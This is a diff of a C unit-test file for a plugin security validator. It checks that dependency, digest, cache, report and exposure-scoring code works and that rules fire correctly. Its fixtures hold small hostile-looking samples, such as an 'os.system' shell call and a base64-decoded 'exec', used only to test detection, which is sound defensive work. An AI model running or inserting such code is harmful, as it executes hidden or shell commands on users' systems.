+	scan(NULL, NULL, &r);
+	assert_non_null(strstr(expect(&r, "perm-undeclared-network", -1)->message, "system:vectorstore"));
+	validate_report_free(&r);
+}
+
+/* ---- dependencies ---- */
+
+static void test_deps(void **state)
+{
+	struct validate_opts o = { .osv_dir = osv_db() };
+	struct validate_report r;
+	int vuln = 0;
+
+	plain();
+	manifest("\"python3\", \"main.py\"", "",
+		 "\n[dependencies]\npython = [\"requests==2.30.0\", \"urllib3==2.2.3\", \"rich\", "
+		 "\"Jinja2==3.1.2\", \"numpy>=1.24,<2\"]\n");
+	scan(NULL, &o, &r);
+	for (size_t i = 0; i < r.n; i++)
+		if (!strcmp(r.findings[i].rule->id, "dep-vulnerable")) {
+			vuln++;
+			assert_string_equal(r.findings[i].file, "plugin.toml");
+			/* GHSA and PYSEC records of one CVE: reported once. */
+			assert_null(strstr(r.findings[i].message, "PYSEC-2023-74"));
+		}
+	assert_int_equal(vuln, 3 + 3);	/* requests: 3 CVEs; jinja2 3.1.2: 3 */
+	assert_non_null(strstr(expect(&r, "dep-vulnerable", SEV_MEDIUM)->message, "fixed in"));
+	{
+		int unpinned = 0;
+
+		for (size_t i = 0; i < r.n; i++)
+			unpinned += !strcmp(r.findings[i].rule->id, "dep-unpinned");
+		assert_int_equal(unpinned, 2);
+	}
+	expect(&r, "dep-unpinned", SEV_LOW);
+	absent(&r, "dep-invalid");
+	absent(&r, "dep-db-unavailable");
+	validate_report_free(&r);
+
+	manifest("\"python3\", \"main.py\"", "",
+		 "\n[dependencies]\npython = [\"requests==2.32.4\", \"urllib3==2.5.0\"]\n");
+	scan(NULL, &o, &r);
+	absent(&r, "dep-vulnerable");
+	absent(&r, "dep-unpinned");
+	validate_report_free(&r);
+
+	manifest("\"python3\", \"main.py\"", "", "\n[dependencies]\npython = [\"pkg==not.a.version\", \"ok==1.0\"]\n");
+	o.osv_dir = NULL;
+	scan(NULL, &o, &r);
+	expect(&r, "dep-invalid", SEV_MEDIUM);
+	expect(&r, "dep-db-unavailable", SEV_INFO);
+	validate_report_free(&r);
+	o.osv_dir = "/nonexistent/osv";
+	scan(NULL, &o, &r);
+	assert_non_null(strstr(expect(&r, "dep-db-unavailable", -1)->message, "/nonexistent/osv"));
+	validate_report_free(&r);
+}
+
+/* ---- digest, cache, report model ---- */
+
+static void digest_of(char out[65])
+{
+	struct validate_report r;
+
+	scan(NULL, NULL, &r);
+	memcpy(out, r.digest, 65);
+	assert_int_equal(strlen(out), 64);
+	validate_report_free(&r);
+}
+
+static void test_digest(void **state)
+{
+	char a[65], b[65], c[65], d[65], e[65], p[512];
+
+	plain();
+	put("z.txt", "z", 0644);
+	put("a/b.txt", "b", 0644);
+	digest_of(a);
+	digest_of(b);
+	assert_string_equal(a, b);
+	put("z.txt", "Z", 0644);		/* content */
+	digest_of(c);
+	assert_string_not_equal(a, c);
+	put("z.txt", "z", 0755);		/* mode */
+	digest_of(d);
+	assert_string_not_equal(a, d);
+	put("z.txt", "z", 0644);
+	digest_of(e);
+	assert_string_equal(a, e);
+	assert_int_equal(symlinkat("z.txt", AT_FDCWD, strcat(strcpy(p, tmp), "/l")), 0);
+	digest_of(e);				/* a new entry, even a link */
+	assert_string_not_equal(a, e);
+}
+
+static void test_cache(void **state)
+{
+	char cache[128], path[512], a[65];
+	struct validate_opts o;
+	struct validate_report r;
+	struct dirent *de;
+	DIR *dir;
+
+	snprintf(cache, sizeof(cache), "%s-cache", tmp);
+	o = (struct validate_opts){ .cache_dir = cache };
+	plain();
+	code("import os\nos.system('id')\n");
+	scan(NULL, &o, &r);
+	assert_false(r.cached);
+	expect(&r, "py-shell", SEV_HIGH);
+	memcpy(a, r.digest, 65);
+	validate_report_free(&r);
+
+	scan(NULL, &o, &r);
+	assert_true(r.cached);
+	assert_string_equal(r.digest, a);
+	expect(&r, "py-shell", SEV_HIGH);
+	assert_true(r.uses & VUSE_PROCESS);
+	assert_true(r.files >= 2);
+	validate_report_free(&r);
+
+	/* A change re-runs the analysis. */
+	code("print('fixed')\n");
+	scan(NULL, &o, &r);
+	assert_false(r.cached);
+	absent(&r, "py-shell");
+	validate_report_free(&r);
+
+	/* A damaged cache entry is a miss, never trusted. */
+	dir = opendir(cache);
+	assert_non_null(dir);
+	while ((de = readdir(dir)))
+		if (de->d_name[0] != '.') {
+			FILE *f;
+
+			snprintf(path, sizeof(path), "%s/%s", cache, de->d_name);
+			f = fopen(path, "w");
+			fputs("{\"ruleset\":\"0\",\"findings\":[]}", f);
+			fclose(f);
+		}
+	closedir(dir);
+	scan(NULL, &o, &r);
+	assert_false(r.cached);
+	validate_report_free(&r);
+	nftw(cache, rm_cb, 8, FTW_DEPTH | FTW_PHYS);
+}
+
+static void test_manifest_invalid_and_errors(void **state)
+{
+	struct validate_report r;
+	char err[256];
+
+	plain();
+	assert_int_equal(validate_dir(tmp, NULL, NULL, &r, err, sizeof(err)), 0);
+	absent(&r, "manifest-invalid");
+	/* Without a manifest, the manifest checks are skipped, the rest still runs. */
+	absent(&r, "perm-unused");
+	assert_int_equal(validate_add_manifest_error(&r, "plugin.toml:3: plugin.version: not semver"), 0);
+	assert_string_equal(expect(&r, "manifest-invalid", SEV_CRITICAL)->message,
+			    "plugin.toml:3: plugin.version: not semver");
+	assert_true(validate_blocks(&r, SEV_CRITICAL));
+	validate_report_free(&r);
+
+	assert_int_equal(validate_dir("/nonexistent/plugin", NULL, NULL, &r, err, sizeof(err)), -1);
+	assert_non_null(strstr(err, "/nonexistent/plugin"));
+	assert_int_equal(r.n, 0);
+	validate_report_free(&r);
+	put("file", "x", 0644);
+	snprintf(err, sizeof(err), "%s/file", tmp);
+	assert_int_equal(validate_dir(err, NULL, NULL, &r, err, sizeof(err)), -1);
+	validate_report_free(&r);
+}
+
+static void test_report_model(void **state)
+{
+	struct validate_report r;
+	unsigned c[5];
+	enum severity s;
+	cJSON *j, *f;
+	char *text = NULL;
+	size_t len = 0;
+	FILE *out;
+	const char *src = "import os\nos.system('x')\nexec(base64.b64decode(X))\n";
+
+	assert_int_equal(validate_python_buffer("m.py", src, strlen(src), &r), 0);
+	assert_true(r.n >= 2);
+	/* Most severe first. */
+	assert_int_equal(r.findings[0].severity, SEV_CRITICAL);
+	assert_string_equal(r.findings[0].rule->id, "py-obfuscated-exec");
+	assert_true(validate_blocks(&r, SEV_CRITICAL));
+	assert_true(validate_blocks(&r, SEV_HIGH));
+	validate_counts(&r, c);
+	assert_int_equal(c[SEV_CRITICAL], 1);
+	assert_int_equal(c[SEV_HIGH], 1);
+
+	j = validate_report_json(&r);
+	assert_non_null(j);
+	assert_int_equal(cJSON_GetArraySize(cJSON_GetObjectItem(j, "findings")), (int)r.n);
+	f = cJSON_GetArrayItem(cJSON_GetObjectItem(j, "findings"), 0);
+	assert_string_equal(cJSON_GetObjectItem(f, "rule")->valuestring, "py-obfuscated-exec");
+	assert_string_equal(cJSON_GetObjectItem(f, "severity")->valuestring, "critical");
+	assert_string_equal(cJSON_GetObjectItem(f, "file")->valuestring, "m.py");
+	assert_int_equal(cJSON_GetObjectItem(f, "line")->valueint, 3);
+	assert_non_null(cJSON_GetObjectItem(f, "message")->valuestring);
+	assert_non_null(cJSON_GetObjectItem(f, "remediation")->valuestring);
+	assert_int_equal(cJSON_GetObjectItem(cJSON_GetObjectItem(j, "counts"), "critical")->valueint, 1);
+	assert_string_equal(cJSON_GetArrayItem(cJSON_GetObjectItem(j, "uses"), 0)->valuestring, "process");
+	cJSON_Delete(j);
+
+	out = open_memstream(&text, &len);
+	validate_report_text(&r, out);
+	fclose(out);
+	assert_non_null(strstr(text, "critical py-obfuscated-exec"));
+	assert_non_null(strstr(text, "m.py:3"));
+	assert_non_null(strstr(text, "fix: "));
+	free(text);
+	validate_report_free(&r);
+
+	/* Clean. */
+	assert_int_equal(validate_python_buffer("ok.py", "x = 1\n", 6, &r), 0);
+	assert_false(validate_blocks(&r, SEV_INFO));
+	out = open_memstream(&text, &len);
+	validate_report_text(&r, out);
+	fclose(out);
+	assert_non_null(strstr(text, "no findings"));
+	free(text);
+	validate_report_free(&r);
+
+	/* Severity names round-trip; unknown names are refused. */
+	for (int i = SEV_INFO; i <= SEV_CRITICAL; i++) {
+		assert_int_equal(severity_parse(severity_name((enum severity)i), &s), 0);
+		assert_int_equal(s, i);
+	}
+	assert_int_equal(severity_parse("severe", &s), -1);
+	assert_int_equal(severity_parse(NULL, &s), -1);
+	assert_string_equal(severity_name((enum severity)9), "?");
+	assert_null(validate_rule_find("no-such-rule"));
+	assert_null(validate_use_name(0x3));
+	/* A whole-plugin finding renders with a null file. */
+	validate_python_buffer("x.py", "", 0, &r);
+	validate_add_manifest_error(&r, "");
+	f = validate_finding_json(&r.findings[0]);
+	assert_string_equal(cJSON_GetObjectItem(f, "file")->valuestring, "plugin.toml");
+	cJSON_Delete(f);
+	r.findings[0].file[0] = '\0';
+	free(r.findings[0].file);
+	r.findings[0].file = NULL;
+	f = validate_finding_json(&r.findings[0]);
+	assert_true(cJSON_IsNull(cJSON_GetObjectItem(f, "file")));
+	cJSON_Delete(f);
+	out = open_memstream(&text, &len);
+	validate_report_text(&r, out);
+	fclose(out);
+	assert_non_null(strstr(text, "(plugin)"));
+	free(text);
+	validate_report_free(&r);
+}
+
+static void test_repeat_cap(void **state)
+{
+	struct validate_report r;
+	char *src = malloc(64 * 40);
+	size_t n = 0;
+
+	for (int i = 0; i < 40; i++)
+		n += (size_t)sprintf(src + n, "eval(x%d)\n", i);
+	validate_python_buffer("many.py", src, n, &r);
+	assert_int_equal(r.n, 20);
+	assert_int_equal(r.dropped, 20);
+	validate_report_free(&r);
+	/* The same finding twice (an f-string field analysed again) is one finding. */
+	validate_python_buffer("f.py", "print(f'{eval(x)}'); print(f'{eval(x)}')\n", 41, &r);
+	assert_int_equal(r.n, 1);
+	validate_report_free(&r);
+	free(src);
+}
+
+/* Arbitrary bytes never crash the analysers (the fuzzer does this at scale). */
+static void test_garbage(void **state)
+{
+	static const char *const inputs[] = {
+		"\xff\xfe\x00\x01(((((((((", "f'{", "f'{x:{y:{z", "exec(", "getattr(", "__import__(",
+		"getattr(__builtins__,", "vars(", "globals()[", "'a' + ", "''.join([", "chr(", "x[::-1",
+		"import", "from . import", "from", "import a as", "with open(x) as", "del", "\\",
+		"\"\"\"", "'''", "os.system(\"$(\"", "a = b = c = eval", ")]}", "exec(''.join([chr(1)] * 3))",
+	};
+	struct validate_report r;
+
+	for (size_t i = 0; i < sizeof(inputs) / sizeof(inputs[0]); i++) {
+		validate_python_buffer("g.py", inputs[i], strlen(inputs[i]), &r);
+		validate_report_free(&r);
+		validate_shell_buffer("g.sh", inputs[i], strlen(inputs[i]), &r);
+		validate_report_free(&r);
+	}
+	assert_int_equal(pyrules_selftest(), 0);
+}
+
+static void test_exposure(void **state)
+{
+	struct validate_report clean = { .complete = true }, bad;
+	struct exposure_input in = { 0 };
+	cJSON *o;
+	const char *src = "exec(base64.b64decode(X))\n";
+
+	in.requested = RAGGED_PERM_BIT(RAGGED_PERM_SYSTEM_EMBEDDING);
+	in.granted = in.requested;
+	in.granted_known = true;
+	in.report = &clean;
+	in.enforcement = "bpf-lsm";
+	o = validate_exposure(&in);
+	assert_int_equal(cJSON_GetObjectItem(o, "score")->valueint, 6);
+	assert_string_equal(cJSON_GetObjectItem(o, "level")->valuestring, "low");
+	assert_int_equal(cJSON_GetArraySize(cJSON_GetObjectItem(o, "reasons")), 1);
+	cJSON_Delete(o);
+
+	/* Documents + network: the exfiltration path; unknown grants count as requested. */
+	in.requested = RAGGED_PERM_BIT(RAGGED_PERM_READ_DOCUMENTS) | RAGGED_PERM_BIT(RAGGED_PERM_NETWORK_API);
+	in.granted = 0;
+	in.granted_known = false;
+	o = validate_exposure(&in);
+	assert_int_equal(cJSON_GetObjectItem(o, "score")->valueint, 6 + 12 + 15);
+	assert_string_equal(cJSON_GetObjectItem(o, "level")->valuestring, "medium");
+	cJSON_Delete(o);
+	/* Known grants: nothing granted, nothing counted. */
+	in.granted_known = true;
+	o = validate_exposure(&in);
+	assert_int_equal(cJSON_GetObjectItem(o, "score")->valueint, 0);
+	cJSON_Delete(o);
+
+	/* Findings, violations, escapes, kills, an unknown mode: capped at 100. */
+	validate_python_buffer("m.py", src, strlen(src), &bad);
+	in.report = &bad;
+	in.violations = 30;
+	in.escapes = 2;
+	in.limit_kills = 1;
+	in.enforcement = "none";
+	o = validate_exposure(&in);
+	assert_int_equal(cJSON_GetObjectItem(o, "score")->valueint, 30 + 20 + 16 + 3 + 20);
+	assert_string_equal(cJSON_GetObjectItem(o, "level")->valuestring, "high");
+	cJSON_Delete(o);
+	in.escapes = 9;
+	o = validate_exposure(&in);
+	assert_int_equal(cJSON_GetObjectItem(o, "score")->valueint, 100);
+	cJSON_Delete(o);
+	validate_report_free(&bad);
+
+	/* Not validated, incomplete, landlock: said, with their points. */
+	in = (struct exposure_input){ .enforcement = "landlock" };
+	o = validate_exposure(&in);
+	assert_int_equal(cJSON_GetObjectItem(o, "score")->valueint, 10);
+	assert_int_equal(cJSON_GetArraySize(cJSON_GetObjectItem(o, "reasons")), 2);
+	cJSON_Delete(o);
+	clean.complete = false;
+	in.report = &clean;
+	o = validate_exposure(&in);
+	assert_int_equal(cJSON_GetObjectItem(o, "score")->valueint, 5);
+	cJSON_Delete(o);
+}
+
+/* Every rule of the catalog was seen firing and seen not firing. */
+static void test_every_rule_covered(void **state)
+{
+	int missing = 0;
+
+	for (int i = 0; validate_rules[i].id; i++) {
+		assert_non_null(validate_rules[i].title);
+		assert_non_null(validate_rules[i].remediation);
+		if (!seen_bad[i] || !seen_good[i]) {
+			fprintf(stderr, "rule %s: %s%s\n", validate_rules[i].id,
+				seen_bad[i] ? "" : "no triggering example ",
+				seen_good[i] ? "" : "no non-triggering example");
+			missing++;
+		}
+	}
+	assert_int_equal(missing, 0);
+}
+
+#define T(f) cmocka_unit_test_setup_teardown(f, mk_tmp, rm_tmp)
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_rule_fixtures),
+		T(test_fs_symlinks),
+		T(test_fs_modes),
+		T(test_fs_unreadable),
+		T(test_fs_limits),
+		T(test_bytecode),
+		T(test_entry),
+		T(test_elf),
+		T(test_perm_network),
+		T(test_perm_endpoints),
+		T(test_perm_write),
+		T(test_perm_unused),
+		T(test_examples),
+		T(test_deps),
+		T(test_digest),
+		T(test_cache),
+		T(test_manifest_invalid_and_errors),
+		cmocka_unit_test(test_report_model),
+		cmocka_unit_test(test_repeat_cap),
+		cmocka_unit_test(test_garbage),
+		cmocka_unit_test(test_exposure),
+		cmocka_unit_test(test_every_rule_covered),
+	};
+
+	return cmocka_run_group_tests(tests, setup, NULL);
+}
